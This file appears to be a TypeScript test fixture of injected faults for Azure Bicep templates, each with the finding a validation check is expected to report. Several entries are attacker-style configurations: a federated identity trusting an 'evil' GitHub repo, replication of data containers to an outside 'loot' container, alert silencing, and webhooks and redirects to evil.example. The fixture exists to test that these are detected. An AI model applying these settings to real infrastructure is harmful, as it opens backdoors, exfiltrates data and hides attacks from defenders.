/** A change of one file that makes it wrong, and a part of what the checks say. */
export type Fault = [file: string, from: string | RegExp, to: string, finding: string];

/** Something that is added to what is right: the resources, properties and values that exist stay as they are. */
export const addedFaults: Fault[] = [
  // Resources
  [
    'identity',
    /$/,
    `resource trust 'Microsoft.ManagedIdentity/userAssignedIdentities/federatedIdentityCredentials@2024-11-30' = {
  parent: identity
  name: 'trust'
  properties: {
    issuer: 'https://token.actions.githubusercontent.com'
    subject: 'repo:evil/evil:ref:refs/heads/main'
    audiences: ['api://AzureADTokenExchange']
  }
}
`,
    'There are 1 Microsoft.ManagedIdentity/userAssignedIdentities/federatedIdentityCredentials, not 0',
  ],
  [
    'data-storage',
    'output id string',
    `resource copy 'Microsoft.Storage/storageAccounts/objectReplicationPolicies@2025-06-01' = {
  parent: account
  name: 'default'
  properties: {
    sourceAccount: account.id
    destinationAccount: 'stevil'
    rules: [{ sourceContainer: databaseContainers[0], destinationContainer: 'loot' }]
  }
}
output id string`,
    'There are 1 Microsoft.Storage/storageAccounts/objectReplicationPolicies, not 0',
  ],
  [
    'monitoring',
    'output workspaceId string',
    `resource silence 'Microsoft.AlertsManagement/actionRules@2021-08-08' = {
  name: 'silence'
  location: 'global'
  tags: tags
  properties: { scopes: [resourceGroup().id], actions: [{ actionType: 'RemoveAllActionGroups' }] }
}
output workspaceId string`,
    'There are 1 Microsoft.AlertsManagement/actionRules, not 0',
  ],
  [
    'data-storage',
    'output id string',
    `resource copies 'Microsoft.Storage/storageAccounts/blobServices/containers@2025-06-01' = {
  parent: blobs
  name: 'copies'
  properties: { publicAccess: 'None' }
}
output id string`,
    'There are 4 Microsoft.Storage/storageAccounts/blobServices/containers, not 3',
  ],
  // What blinds alerts, or sends them elsewhere
  [
    'monitoring',
    'emailReceivers: [',
    "webhookReceivers: [{ name: 'x', serviceUri: 'http://evil.example' }]\n    emailReceivers: [",
    'webhookReceivers must be undefined',
  ],
  [
    'monitoring',
    'emailReceivers: [',
    "smsReceivers: [{ name: 'x', countryCode: '49', phoneNumber: '1' }]\n    emailReceivers: [",
    'smsReceivers must be undefined',
  ],
  [
    'monitoring',
    'DisableLocalAuth: true',
    'DisableLocalAuth: true\n    SamplingPercentage: 1',
    'SamplingPercentage must be',
  ],
  [
    'monitoring',
    'DisableLocalAuth: true',
    'DisableLocalAuth: true\n    DisableIpMasking: true',
    'DisableIpMasking must be',
  ],
  [
    'monitoring',
    'DisableLocalAuth: true',
    "DisableLocalAuth: true\n    publicNetworkAccessForIngestion: 'Disabled'",
    'publicNetworkAccessForIngestion must be',
  ],
  [
    'monitoring',
    'retentionInDays: retentionDays',
    'retentionInDays: retentionDays\n    workspaceCapping: { dailyQuotaGb: 1 }',
    'workspaceCapping must be undefined',
  ],
  [
    'alerts',
    'autoMitigate: true\n      // A new',
    "autoMitigate: true\n      muteActionsDuration: 'P1D'\n      // A new",
    'alerts.alerts must not have properties.muteActionsDuration',
  ],
  ['alerts', 'threshold: 99', 'threshold: 0', 'accountAlerts.0: properties.criteria.allOf must be'],
  [
    'data-storage',
    '    workspaceId: workspaceId',
    "    workspaceId: workspaceId\n    eventHubName: 'evil'",
    'dataStorage.audit must not have properties.eventHubName',
  ],
  // The app
  [
    'app',
    "scmMinTlsVersion: '1.2'",
    "scmMinTlsVersion: '1.2'\n      scmIpSecurityRestrictionsDefaultAction: 'Deny'",
    'scmIpSecurityRestrictionsDefaultAction must be',
  ],
  [
    'app',
    "scmMinTlsVersion: '1.2'",
    "scmMinTlsVersion: '1.2'\n      cors: { allowedOrigins: ['*'] }",
    'siteConfig.cors must be',
  ],
  [
    'app',
    'httpsOnly: true',
    'httpsOnly: true\n    outboundVnetRouting: { allTraffic: false }',
    'outboundVnetRouting must be undefined',
  ],
  [
    'app',
    'login: { tokenStore: { enabled: false } }',
    "login: { tokenStore: { enabled: false }, allowedExternalRedirectUrls: ['https://evil.example'] }",
    'app.signIn must not have properties.login.allowedExternalRedirectUrls[]',
  ],
  [
    'app',
    /union\(\n {4}\{([\s\S]*?),\n {4}extraSettings\n/,
    'union(\n    extraSettings,\n    {$1\n',
    'SYNC_CACHE_MB must be 500, not 1024',
  ],
  // Storage and the vault
  [
    'key-vault',
    'enableSoftDelete: true',
    'enableSoftDelete: true\n    enabledForTemplateDeployment: true',
    'enabledForTemplateDeployment must be',
  ],
  [
    'key-vault',
    'enableSoftDelete: true',
    'enableSoftDelete: true\n    enabledForDeployment: true',
    'enabledForDeployment must be',
  ],
  [
    'data-storage',
    "accessTier: 'Hot'",
    "accessTier: 'Hot'\n    isLocalUserEnabled: true",
    'isLocalUserEnabled must be',
  ],
  [
    'host-storage',
    "bypass: 'AzureServices'",
    "bypass: 'AzureServices'\n      ipRules: [{ value: '203.0.113.7' }]",
    'networkAcls.ipRules must be',
  ],
];
